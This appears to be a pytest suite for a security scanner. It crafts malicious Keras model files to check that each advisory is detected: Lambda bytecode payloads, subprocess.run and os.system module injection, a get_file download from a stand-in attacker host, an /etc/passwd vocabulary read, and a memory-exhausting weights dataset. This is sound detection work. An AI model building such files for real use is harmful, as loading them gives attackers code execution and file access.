"""Real Keras saves: benign ones stay clean, edited ones are caught (one test per advisory).

Every malicious sample is a real ``.keras``/``.h5``/JSON file saved by Keras whose config was
edited afterwards; its only payload would ``touch`` a marker file, which must never appear.
"""

from __future__ import annotations

import json
import shutil
from pathlib import Path

import pytest

from bastion.core import Severity

from .helpers import (
    Config,
    by_rule,
    edit_h5,
    edit_keras,
    find_layer,
    layers_of,
    marker_payload_b64,
    rule_ids,
    scan_path,
)

pytestmark = pytest.mark.slow

BENIGN = ("sequential", "functional", "nested", "recurrent")


@pytest.mark.parametrize("name", BENIGN)
@pytest.mark.parametrize("suffix", [".keras", ".h5", ".json"])
def test_benign_real_models_have_no_findings(keras_samples: Path, name: str, suffix: str) -> None:
    result = scan_path(keras_samples / f"{name}{suffix}")
    assert result.findings == ()
    assert result.skipped == ()
    formats = {a.format for a in result.artifacts}
    expected = {".keras": {"keras", "keras-config", "hdf5"}, ".h5": {"hdf5"}}
    assert expected.get(suffix, {"keras-json"}) <= formats


def test_benign_directory_scan_is_clean(keras_samples: Path, tmp_path: Path) -> None:
    for name in BENIGN:
        for suffix in (".keras", ".h5", ".json"):
            shutil.copy(keras_samples / f"{name}{suffix}", tmp_path)
    result = scan_path(tmp_path)
    assert [f for f in result.findings if f.severity >= Severity.HIGH] == []
    assert result.findings == ()


def _set_lambda_code(config: Config, layer: str, code_b64: str) -> None:
    function = find_layer(config, layer)["config"]["function"]
    assert function["class_name"] == "__lambda__"
    function["config"]["code"] = code_b64


def test_lambda_dict_with_marker_payload_in_keras(
    keras_samples: Path, tmp_path: Path, marker_dir: Path
) -> None:
    payload = marker_payload_b64(marker_dir / "pwned")
    target = edit_keras(
        keras_samples / "lambda_template.keras",
        tmp_path / "evil.keras",
        lambda c: _set_lambda_code(c, "lambda_3", payload),
    )
    result = scan_path(target)
    (finding,) = by_rule(result, "BST-KRS-001")
    assert finding.severity is Severity.CRITICAL
    assert finding.location.member == "config.json"
    assert finding.properties["layer"] == "sequential_1/lambda_3"
    assert "os" in finding.message and "system" in finding.message
    assert f"touch {marker_dir / 'pwned'}" in finding.message


def test_nested_lambda_inside_nested_model_names_the_full_path(
    keras_samples: Path, tmp_path: Path, marker_dir: Path
) -> None:
    payload = marker_payload_b64(marker_dir / "nested")
    target = edit_keras(
        keras_samples / "nested_lambda_template.keras",
        tmp_path / "nested.keras",
        lambda c: _set_lambda_code(c, "hidden", payload),
    )
    (finding,) = by_rule(scan_path(target), "BST-KRS-001")
    assert finding.properties["layer"] == "model/inner_block/hidden"
    assert "system" in finding.message


def test_lambda_inside_time_distributed_wrapper(keras_samples: Path) -> None:
    (finding,) = by_rule(scan_path(keras_samples / "wrapped_lambda_template.keras"), "BST-KRS-001")
    assert finding.properties["layer"] == "wrapped/per_step/lambda"
    assert finding.properties["field"] == "config.function"


def test_cve_2024_3660_legacy_lambda_list_in_h5(
    keras_samples: Path, tmp_path: Path, marker_dir: Path
) -> None:
    """CVE-2024-3660: Keras < 2.13 rebuilt ``function_type: lambda`` bytecode unconditionally."""
    payload = marker_payload_b64(marker_dir / "legacy")

    def legacy(config: Config) -> None:
        layer = find_layer(config, "lambda_3")["config"]
        layer["function"] = [payload, None, None]
        layer["function_type"] = "lambda"
        layer["module"] = "__main__"

    target = edit_h5(keras_samples / "lambda_template.h5", tmp_path / "legacy.h5", legacy)
    (finding,) = by_rule(scan_path(target), "BST-KRS-001")
    assert finding.severity is Severity.CRITICAL
    assert "CVE-2024-3660" in finding.message
    assert "system" in finding.message and "touch" in finding.message


def test_cve_2025_9905_h5_lambda_runs_despite_safe_mode(
    keras_samples: Path, tmp_path: Path, marker_dir: Path
) -> None:
    """CVE-2025-9905: Keras 3 < 3.11.3 ignored ``safe_mode`` for ``.h5`` Lambda layers."""
    payload = marker_payload_b64(marker_dir / "h5")
    target = edit_h5(
        keras_samples / "lambda_template.h5",
        tmp_path / "model.h5",
        lambda c: _set_lambda_code(c, "lambda_3", payload),
    )
    (finding,) = by_rule(scan_path(target), "BST-KRS-001")
    assert "CVE-2025-9905" in finding.message
    assert finding.location.member is None
    assert finding.properties["layer"] == "sequential_1/lambda_3"


def _lambda_function(config: Config, function: Config, arguments: Config) -> None:
    layer = find_layer(config, "lambda_3")["config"]
    layer["function"] = function
    layer["arguments"] = arguments


def test_cve_2025_1550_module_injection_through_lambda_function(
    keras_samples: Path, tmp_path: Path, marker_dir: Path
) -> None:
    """CVE-2025-1550: Keras < 3.9 imported any ``module`` named in config.json."""
    function = {
        "module": "subprocess",
        "class_name": "function",
        "config": "run",
        "registered_name": "run",
    }
    target = edit_keras(
        keras_samples / "lambda_template.keras",
        tmp_path / "inject.keras",
        lambda c: _lambda_function(c, function, {"args": ["touch", str(marker_dir / "x")]}),
    )
    (finding,) = by_rule(scan_path(target), "BST-KRS-002")
    assert finding.severity is Severity.CRITICAL
    assert "subprocess.run" in finding.message
    assert finding.properties["field"] == "config.function"


def test_cve_2025_1550_layer_class_from_foreign_module(keras_samples: Path, tmp_path: Path) -> None:
    """CVE-2025-1550 variant: a layer entry whose ``module`` is ``os``."""

    def edit(config: Config) -> None:
        layers_of(config).append(
            {
                "module": "os",
                "class_name": "system",
                "config": {"name": "x"},
                "registered_name": None,
            }
        )

    target = edit_keras(keras_samples / "sequential.keras", tmp_path / "os.keras", edit)
    assert [f.rule_id for f in scan_path(target).findings] == ["BST-KRS-002"]


def test_cve_2025_8747_get_file_gadget(keras_samples: Path, tmp_path: Path) -> None:
    """CVE-2025-8747: ``keras.utils.get_file`` reached through a Lambda layer's function."""
    function = {
        "module": "keras.utils",
        "class_name": "function",
        "config": "get_file",
        "registered_name": "get_file",
    }
    arguments = {"origin": "https://attacker.invalid/payload.tar.gz", "extract": True}
    target = edit_keras(
        keras_samples / "lambda_template.keras",
        tmp_path / "getfile.keras",
        lambda c: _lambda_function(c, function, arguments),
    )
    (finding,) = by_rule(scan_path(target), "BST-KRS-003")
    assert finding.severity is Severity.CRITICAL
    assert "CVE-2025-8747" in finding.message
    assert "https://attacker.invalid/payload.tar.gz" in finding.message


def test_cve_2025_9906_enable_unsafe_deserialization_then_lambda(
    keras_samples: Path, tmp_path: Path, marker_dir: Path
) -> None:
    """CVE-2025-9906: config switches safe mode off, then a later Lambda's bytecode runs."""
    payload = marker_payload_b64(marker_dir / "chain")

    def edit(config: Config) -> None:
        first = next(layer for layer in layers_of(config) if layer["class_name"] == "Dense")
        first["config"]["activation"] = {
            "module": "keras.config",
            "class_name": "function",
            "config": "enable_unsafe_deserialization",
            "registered_name": "enable_unsafe_deserialization",
        }
        _set_lambda_code(config, "lambda_3", payload)

    target = edit_keras(keras_samples / "lambda_template.keras", tmp_path / "chain.keras", edit)
    result = scan_path(target)
    (gadget,) = by_rule(result, "BST-KRS-003")
    assert gadget.severity is Severity.CRITICAL and "CVE-2025-9906" in gadget.message
    assert by_rule(result, "BST-KRS-001")


def test_cve_2025_12058_string_lookup_vocabulary_path(keras_samples: Path, tmp_path: Path) -> None:
    """CVE-2025-12058: a StringLookup vocabulary path is read at load time, even in safe mode."""

    def edit(config: Config) -> None:
        layers_of(config).append(
            {
                "module": "keras.layers",
                "class_name": "StringLookup",
                "config": {"name": "lookup", "trainable": True, "vocabulary": "/etc/passwd"},
                "registered_name": None,
            }
        )

    target = edit_keras(keras_samples / "sequential.keras", tmp_path / "vocab.keras", edit)
    (finding,) = by_rule(scan_path(target), "BST-KRS-005")
    assert finding.severity is Severity.HIGH
    assert finding.properties["layer"] == "sequential/lookup"
    assert "/etc/passwd" in finding.message


def test_cve_2026_0897_weights_declaring_huge_dataset(keras_samples: Path, tmp_path: Path) -> None:
    """CVE-2026-0897: model.weights.h5 with a dataset whose shape exhausts memory on load."""
    import zipfile

    import h5py

    weights = tmp_path / "model.weights.h5"
    with zipfile.ZipFile(keras_samples / "sequential.keras") as archive:
        weights.write_bytes(archive.read("model.weights.h5"))
        members = {n: archive.read(n) for n in archive.namelist()}
    with h5py.File(weights, "r+") as handle:
        handle.create_dataset("layers/bomb/vars/0", shape=(1 << 40,), dtype="f4", chunks=(1024,))
    members["model.weights.h5"] = weights.read_bytes()
    target = tmp_path / "bomb.keras"
    with zipfile.ZipFile(target, "w") as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    (finding,) = by_rule(scan_path(target), "BST-KRS-011")
    assert finding.location.member == "model.weights.h5"
    assert "layers/bomb/vars/0" in finding.message


def test_malicious_to_json_file(keras_samples: Path, tmp_path: Path, marker_dir: Path) -> None:
    config = json.loads((keras_samples / "sequential.json").read_text())
    layers_of(config).append(
        {
            "module": "keras.layers",
            "class_name": "Lambda",
            "config": {
                "name": "evil",
                "trainable": True,
                "function": {
                    "class_name": "__lambda__",
                    "config": {
                        "code": marker_payload_b64(marker_dir / "json"),
                        "defaults": None,
                        "closure": None,
                    },
                },
                "arguments": {},
            },
            "registered_name": None,
        }
    )
    target = tmp_path / "model.json"
    target.write_text(json.dumps(config))
    result = scan_path(target)
    assert rule_ids(result) == {"BST-KRS-001"}
    assert result.findings[0].properties["layer"] == "sequential/evil"


def test_malformed_config_in_real_archive(keras_samples: Path, tmp_path: Path) -> None:
    import zipfile

    target = tmp_path / "broken.keras"
    with (
        zipfile.ZipFile(keras_samples / "sequential.keras") as zin,
        zipfile.ZipFile(target, "w") as zout,
    ):
        for info in zin.infolist():
            data = zin.read(info.filename)
            zout.writestr(info, data[: len(data) // 2] if info.filename == "config.json" else data)
    result = scan_path(target)
    assert rule_ids(result) == {"BST-KRS-006"}


def test_truncated_real_archive_does_not_raise(keras_samples: Path, tmp_path: Path) -> None:
    data = (keras_samples / "functional.keras").read_bytes()
    for cut in (len(data) // 3, len(data) // 2, len(data) - 30):
        target = tmp_path / f"cut{cut}.keras"
        target.write_bytes(data[:cut])
        result = scan_path(target)
        assert all(s.reason.value != "analyzer-error" for s in result.skipped), result.skipped
